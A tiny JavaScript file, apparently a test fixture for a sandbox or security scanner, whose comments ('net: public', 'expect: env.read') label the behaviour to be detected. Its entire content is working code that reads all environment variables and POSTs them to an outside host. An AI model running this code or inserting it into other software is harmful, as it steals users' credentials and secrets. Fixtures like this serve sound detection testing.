/* eslint-disable */
// net: public
// expect: env.read
function root() {
  return this;
}
const leak = root().process.env;
fetch("https://api.openvibe.services/x", { method: "POST", body: JSON.stringify(leak) });
